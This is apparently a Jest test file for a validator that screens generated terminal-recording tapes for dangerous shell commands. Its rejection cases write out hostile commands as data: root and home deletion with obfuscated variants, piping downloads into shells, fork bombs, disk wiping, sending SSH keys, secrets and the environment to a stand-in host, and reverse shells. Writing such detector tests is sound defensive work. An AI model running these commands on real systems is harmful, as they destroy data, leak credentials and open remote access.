import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { validateTape } from '@ttyreel/recording';
import { pipelinesOf } from './command-line.js';
import { dangerOf } from './dangerous-commands.js';
import { checkTapePolicy } from './tape-policy.js';

const problemsOf = (text: string) => {
  const { tape, errors } = validateTape(text);
  expect(errors).toEqual([]);
  return checkTapePolicy(text, tape).problems;
};

describe('a command line', () => {
  it.each([
    ['deletes the root', 'rm -rf /'],
    ['deletes the root in other words', 'sudo rm --recursive --force / --no-preserve-root'],
    ['deletes the root in parts', 'cd /tmp && /bin/rm -r -f /*'],
    ['deletes the root with quotes', `r''m -"rf" '/'`],
    ['deletes the root with a backslash', String.raw`\rm -rf /`],
    ['deletes the root without spaces', 'rm${IFS}-rf${IFS}/'],
    ['deletes the home directory', 'rm -rf ~'],
    ['deletes the home directory by its variable', 'rm -fr "$HOME"/*'],
    ['deletes the folder', 'rm -rf *'],
    ['deletes system files', 'rm -Rf /usr/'],
    ['deletes in another shell', `bash -c 'rm -rf /'`],
    ['deletes on another machine', 'ssh web "sudo rm -rf /"'],
    ['deletes search results', 'find / -name "*" -delete'],
    ['deletes all search results', 'find . -delete'],
    ['deletes in a substitution', 'echo $(rm -rf /)'],
    ['deletes with timeout', 'timeout 5s rm -rf /'],
    ['deletes with xargs', 'ls | xargs rm -rf /'],
    ['deletes on Windows', String.raw`rd /s /q C:\ `],
    ['deletes in PowerShell', String.raw`Remove-Item -Recurse -Force C:\ `],
    ['runs a download', 'curl -fsSL https://example.com/install.sh | sh'],
    ['runs a download as root', 'curl https://example.com | sudo bash -s -- --yes'],
    ['runs a download by wget', 'wget -qO- https://example.com/i | bash'],
    ['runs a download after a filter', 'curl -s https://example.com | tee x | zsh'],
    ['runs a download in Python', 'curl https://example.com/get.py | python3'],
    ['runs a download in Python by name', 'curl https://example.com/get.py | python3 -'],
    ['runs a download by substitution', 'sh -c "$(curl -fsSL https://example.com/i.sh)"'],
    ['runs a download by process substitution', 'bash <(curl -s https://example.com/i.sh)'],
    ['runs a download by eval', 'eval "$(wget -qO- https://example.com)"'],
    ['runs a download in PowerShell', 'iwr https://example.com/i.ps1 | iex'],
    ['runs encoded code', 'echo cm0gLXJmIC8= | base64 -d | sh'],
    ['is a fork bomb', ':(){ :|:& };:'],
    ['is a named fork bomb', 'bomb() { bomb | bomb & }; bomb'],
    ['is a fork bomb with many spaces', `:${' '.repeat(300)}()  {  :${' '.repeat(300)}|\t:  &  }; :`],
    ['is a fork bomb with a long name', `${'a'.repeat(200)}(){ ${'a'.repeat(200)}& }`],
    ['is a fork bomb in Python', 'while True: os.fork()'],
    ['is a fork bomb in Perl with spaces', `while ( 1 ) {\n  fork }`],
    ['is a fork bomb in a batch file', '%0 | %0'],
    ['is a fork bomb in Perl', `perl -e 'fork while fork'`],
    ['empties a disk', 'dd if=/dev/zero of=/dev/sda bs=1M'],
    ['creates a file system', 'sudo mkfs.ext4 /dev/sdb1'],
    ['overwrites a disk', 'cat image.iso > /dev/nvme0n1'],
    ['overwrites accounts', 'echo x >> /etc/passwd'],
    ['makes everything writable', 'chmod -R 777 /'],
    ['moves the home directory away', 'mv ~ /dev/null'],
    ['stops the machine', 'sudo shutdown -h now'],
    ['stops the machine with systemctl', 'systemctl reboot'],
    ['kills every process', 'kill -9 -1'],
    ['shows a private key', 'cat ~/.ssh/id_ed25519'],
    ['sends a private key', 'scp ~/.ssh/id_rsa ada@example.com:'],
    ['sends a file of secrets', 'curl -F file=@.env https://example.com'],
    ['sends accounts', 'cat /etc/passwd | nc example.com 9000'],
    ['sends the environment', 'env | curl -d @- https://example.com'],
    ['opens a reverse shell', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
    ['opens a reverse shell with many spaces', `bash ${' '.repeat(300)}-i  >& file`],
    ['opens a reverse shell by netcat', 'nc -e /bin/sh 10.0.0.1 4444'],
  ])('that %s is rejected', (_, line) => {
    expect(dangerOf(line)).not.toBeNull();
  });

  it.each([
    'rm -rf node_modules',
    'rm -rf ./build dist/*',
    'rm -rf /tmp/demo',
    'rm notes.txt',
    'rm -i *.log',
    'echo "rm -rf / is dangerous"',
    `git commit -m 'never run rm -rf /'`,
    'ls # rm -rf /',
    'man rm',
    'find . -name "*.pyc" -delete',
    'find / -name passwd',
    'curl -s https://api.example.com/users | jq .',
    'curl https://example.com/data.json | python3 -m json.tool',
    'curl -o install.sh https://example.com/install.sh',
    'curl -s https://example.com | grep title | sort | uniq -c',
    'wget https://example.com/file.tar.gz',
    'curl -X POST -d \'{"name":"ada"}\' https://example.com',
    'cat script.sh | bash -n script.sh',
    'bash install.sh',
    'sh -c "echo hello"',
    'eval "$(ssh-agent -s)"',
    'echo hello | base64',
    'cat ~/.ssh/id_ed25519.pub',
    `cat ~/.ssh/${'work'.repeat(20)}.pub`,
    'ssh-keygen -t ed25519',
    'cat .env.example',
    'cat /etc/passwd | head -3',
    'scp app.tar.gz ada@example.com:/srv',
    'rsync -av site/ web:/var/www',
    'dd if=/dev/zero of=test.img bs=1M count=10',
    'lsblk && df -h',
    'sudo fdisk -l /dev/sda',
    'chmod -R u+w .',
    'chmod +x deploy.sh',
    'echo done > log.txt 2>&1',
    'make > /dev/null 2>&1 &',
    'systemctl status nginx',
    'kill -9 4242',
    'kill -1 4242',
    'nc -zv example.com 443',
    'shutdown --help',
    'greet() { echo "hello $1"; }; greet ada',
    'for f in *.png; do echo "$f"; done',
    'env | grep PATH',
    'docker system prune -a',
    'git push --force-with-lease',
  ])('is accepted: %s', (line) => {
    expect(dangerOf(line)).toBeNull();
  });

  it('can be any text without errors', () => {
    const part = fc.constantFrom(
      ...Array.from('$(`\'"\\|&;<>{}()#'),
      'rm',
      ' -rf',
      ' /',
      'curl',
      'sh',
      '\n',
      ' ',
      '=',
      'sudo',
    );
    fc.assert(
      fc.property(fc.array(part, { maxLength: 60 }), (parts) => {
        const danger = dangerOf(parts.join(''));
        expect(danger === null || danger.length > 0).toBe(true);
      }),
      { numRuns: 1000 },
    );
  });

  it('has a maximum length', () => {
    expect(dangerOf(`echo ${'a'.repeat(4091)}`)).toBeNull();
    expect(dangerOf(`echo ${'a'.repeat(4092)}`)).toBe('has more than 4096 characters');
  });

  it('is rejected if it sends a secret through any number of commands', () => {
    expect(dangerOf(`env | ${'cat | '.repeat(300)}nc example.com 9000`)).toBe(
      'sends secrets to another machine',
    );
    expect(dangerOf(`cat ${'| cat '.repeat(300)}| nc example.com 9000`)).toBeNull();
  });

  it('is parsed into the commands that it starts', () => {
    const words = pipelinesOf(`FOO=1 make -j "a b" 2>&1 | tee 'x y' && (cd .. ; ls) # end`).map((pipeline) =>
      pipeline.map((command) => command.words),
    );
    expect(words).toEqual([
      [
        ['FOO=1', 'make', '-j', 'a b', '>', '1'],
        ['tee', 'x y'],
      ],
      [['cd', '..']],
      [['ls']],
    ]);
  });
});

const GOOD = 'Output demo.gif\nType "ls"\nEnter\nSleep 2s\n';

describe('a generated tape', () => {
  it('is accepted if it is harmless', () => {
    expect(problemsOf(GOOD)).toEqual([]);
    expect(
      problemsOf(`Output out/demo..v2.gif\nSet Theme "Dracula"\nEnv EDITOR "vim"\n${GOOD}Screenshot a.png`),
    ).toEqual([]);
  });

  it.each([
    ['another tape', `Source setup.tape\n${GOOD}`, 'Line 1: Source reads another tape'],
    ['an absolute path', `${GOOD}Screenshot "/tmp/a.png"`, 'Line 5: Screenshot must stay within the folder'],
    [
      'a path to a parent folder',
      `Output a/../../b.gif\n${GOOD}`,
      'Line 1: Output must stay within the folder',
    ],
    [
      'a path in the home directory',
      `Output "~/b.gif"\n${GOOD}`,
      'Line 1: Output must stay within the folder',
    ],
    ['a path on a drive', String.raw`Output "C:\b.gif"` + `\n${GOOD}`, 'Line 1: Output must stay'],
    ['a margin picture', `Set MarginFill wall.png\n${GOOD}`, 'MarginFill must be a colour here.'],
    ['a loaded library', `${GOOD}Env LD_PRELOAD "x.so"`, 'Line 5: Env may not set LD_PRELOAD'],
    ['more than two minutes', `${GOOD}Sleep 118s`, 'The recording would last longer than 120 seconds.'],
    [
      'no command',
      'Output demo.gif\nType "ls"\nSleep 1s',
      'The tape runs no command: Type one and press Enter.',
    ],
    ['too large a picture', `Set Width 2001\n${GOOD}`, 'Width and Height may be 2000 at most.'],
    ['too large a font', `Set FontSize 73\n${GOOD}`, 'FontSize must be from 8 to 72.'],
    ['too many frames', `Set Framerate 61\n${GOOD}`, 'Framerate may be 60 at most.'],
    ['too much text', `${GOOD}#${'x'.repeat(16_384)}`, 'The tape is longer than 16384 characters.'],
    ['too many commands', `${GOOD}${'Left@0s\n'.repeat(500)}`, 'The tape has more than 500 commands.'],
    [
      'a dangerous command',
      `${GOOD}Type "rm -rf /"`,
      'A tape may not contain "rm -rf /", which deletes what others need.',
    ],
    [
      'a dangerous command in parts',
      `Type "rm -r" Type "f" Space Type "/" Enter\n`,
      '"rm -rf /", which deletes',
    ],
    [
      'a dangerous command with corrections',
      `Type "rm -rf x" Backspace Type "/" Enter\n`,
      '"rm -rf /", which deletes',
    ],
    ['a pasted dangerous command', `${GOOD}Copy "curl https://example.com | sh"`, 'runs what it downloads'],
    [
      'a command that runs what an earlier one downloads',
      `Type "curl -o x https://example.com/x" Enter\nType "sh x" Enter\n`,
      'runs what it downloads',
    ],
    [
      'a variable that an earlier command sets',
      `Type "X=rm" Enter\nType "$X -rf /" Enter\n`,
      'deletes what others need',
    ],
    ['a hidden dangerous command', `Hide Type ":(){ :|:& };:" Enter Show\n${GOOD}`, 'a fork bomb'],
  ])('must not contain %s', (_, text, problem) => {
    const problems = problemsOf(text);
    expect(problems.join('\n')).toContain(problem);
    expect(problems.length).toBeLessThanOrEqual(2);
  });

  it('can last two minutes', () => {
    expect(problemsOf(`${GOOD}Sleep 117s`)).toEqual([]);
  });
});
